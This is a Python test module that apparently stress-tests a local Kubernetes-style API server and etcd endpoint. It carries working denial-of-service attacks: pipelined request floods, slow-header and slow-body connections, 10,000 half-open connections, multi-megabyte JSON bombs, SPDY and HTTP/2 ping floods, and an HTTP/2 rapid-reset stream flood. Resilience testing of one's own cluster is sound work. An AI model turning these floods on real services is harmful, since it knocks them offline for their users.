"""What a client that means harm does to its own cluster, each for as long as it is let.

All of them know the cluster's port, and those that need it a certificate of its authority.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import sys
from typing import TYPE_CHECKING, Final, TypeAlias, cast

import h2.config
import h2.connection
import uvloop

from capim.aio.descriptors import raise_limit
from capim.wire.spdyframes import FrameType, encode_control
from tests.overload.neighbour import client_context
from tests.overload.world import Site

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable, Coroutine

Attack: TypeAlias = "Callable[[Site], Coroutine[object, object, None]]"

_HOST: Final = "127.0.0.1"
_GET: Final = b"GET /api/v1/nodes/n1 HTTP/1.1\r\nHost: x\r\n\r\n"
_LIST: Final = b"GET /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: x\r\n\r\n"
_MAPS: Final = "/api/v1/namespaces/default/configmaps"
_FORWARD: Final = (
    b"POST /api/v1/namespaces/kube-system/pods/etcd-n1/portforward HTTP/1.1\r\nHost: x\r\n"
    b"Connection: Upgrade\r\nUpgrade: SPDY/3.1\r\nX-Stream-Protocol-Version: portforward.k8s.io\r\n"
    b"Content-Length: 0\r\n\r\n"
)
#: the first bytes of a handshake, and no more
_HALF_HELLO: Final = bytes([22, 3, 1, 2, 0, 1])
HALF_OPEN: Final = 10_000


async def _many(count: int, one: Callable[[], Awaitable[None]]) -> None:
    """Do the same on many connections, each again and again."""

    async def again() -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                await one()
            await asyncio.sleep(0)

    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(again())


class _Flood(asyncio.Protocol):
    """Sends the same bytes as long as the server takes them, and reads what comes."""

    def __init__(self, first: bytes, piece: bytes) -> None:
        self._first, self._piece = first, piece
        self._paused = False
        self.ended = asyncio.get_running_loop().create_future()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self._transport = cast(asyncio.Transport, transport)
        self._transport.write(self._first)
        self._more()

    def _more(self) -> None:
        if self._paused or self._transport.is_closing():
            return
        self._transport.write(self._piece)
        asyncio.get_running_loop().call_soon(self._more)

    def pause_writing(self) -> None:
        self._paused = True

    def resume_writing(self) -> None:
        self._paused = False
        self._more()

    def connection_lost(self, exc: Exception | None) -> None:
        del exc
        if not self.ended.done():
            self.ended.set_result(None)


def _flood(count: int, piece: bytes, first: bytes = b"", *, etcd: bool = False) -> Attack:
    async def attack(site: Site) -> None:
        context = client_context(
            site.etcd_client if etcd else site.client, "h2" if etcd else "http/1.1"
        )
        name = "etcd-n1" if etcd else _HOST

        async def one() -> None:
            loop = asyncio.get_running_loop()
            _, protocol = await loop.create_connection(
                lambda: _Flood(first, piece), _HOST, site.port, ssl=context, server_hostname=name
            )
            await protocol.ended

        await _many(count, one)

    return attack


async def _handshakes(site: Site) -> None:
    context = client_context(site.client)

    async def one() -> None:
        _, writer = await asyncio.open_connection(_HOST, site.port, ssl=context)
        writer.transport.abort()

    await _many(64, one)


async def _connects(site: Site) -> None:
    async def one() -> None:
        _, writer = await asyncio.open_connection(_HOST, site.port)
        writer.transport.abort()

    await _many(64, one)


def _half_open(first: bytes) -> Attack:
    async def attack(site: Site) -> None:
        async def one() -> None:
            reader, writer = await asyncio.open_connection(_HOST, site.port)
            writer.write(first)
            try:
                await reader.read(1)
            finally:
                writer.transport.abort()

        await _many(HALF_OPEN, one)

    return attack


def _slow(first: bytes) -> Attack:
    """A byte a second, on as many connections as there may be."""

    async def attack(site: Site) -> None:
        context = client_context(site.client)

        async def one() -> None:
            _, writer = await asyncio.open_connection(_HOST, site.port, ssl=context)
            writer.write(first)
            while not writer.transport.is_closing():
                await asyncio.sleep(1)
                writer.write(b"a")
            writer.transport.abort()

        await _many(900, one)

    return attack


def _post(body: bytes) -> bytes:
    head = f"POST {_MAPS}?dryRun=All HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    return f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body


def _labels(count: int) -> bytes:
    pairs = ",".join(f'"k{number}":"v"' for number in range(count))
    return _post(f'{{"metadata":{{"name":"a","labels":{{{pairs}}}}}}}'.encode())


def _resets() -> bytes:
    """HEADERS and RST_STREAM by turns, as often as fits into a piece."""
    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    client.initiate_connection()
    headers = [
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", "etcd-n1"),
        (":path", "/etcdserverpb.Maintenance/Status"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    for number in range(1, 2000, 2):
        client.send_headers(number, headers)
        client.reset_stream(number)
    return client.data_to_send()


def _h2_preface() -> bytes:
    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    client.initiate_connection()
    return client.data_to_send()


_H2_PING: Final = bytes([0, 0, 8, 6, 0, 0, 0, 0, 0]) + bytes(8)
_SPDY_PING: Final = encode_control(FrameType.PING, (1).to_bytes(4, "big"))

ATTACKS: Final[dict[str, Attack]] = {
    "GETs pipelined on 64 connections": _flood(64, _GET * 32),
    "GETs on 1000 connections": _flood(1000, _GET),
    "LISTs of 1 MB pipelined on 16 connections": _flood(16, _LIST * 4),
    "handshakes on 64 connections": _handshakes,
    "connections that are reset": _connects,
    "10 000 connections that say nothing": _half_open(b""),
    "10 000 connections with half a hello": _half_open(_HALF_HELLO),
    "900 slow heads": _slow(b"GET / HTTP/1.1\r\nA: "),
    "900 slow bodies": _slow(_post(bytes(1000))[:-1000]),
    "3 MB in one string": _flood(
        4, _post(b'{"metadata":{"name":"a"},"data":{"x":"%b"}}' % (b"y" * 3_000_000))
    ),
    "3 MB of brackets": _flood(4, _post(b"[" * 3_000_000)),
    "50 000 labels": _flood(4, _labels(50_000)),
    "SPDY pings": _flood(16, _SPDY_PING * 1000, _FORWARD),
    "gRPC pings": _flood(16, _H2_PING * 1000, _h2_preface(), etcd=True),
    "gRPC streams opened and reset": _flood(16, b"", _resets(), etcd=True),
}


if __name__ == "__main__":
    raise_limit()
    uvloop.run(ATTACKS[sys.argv[1]](Site(**json.loads(sys.argv[2]))))
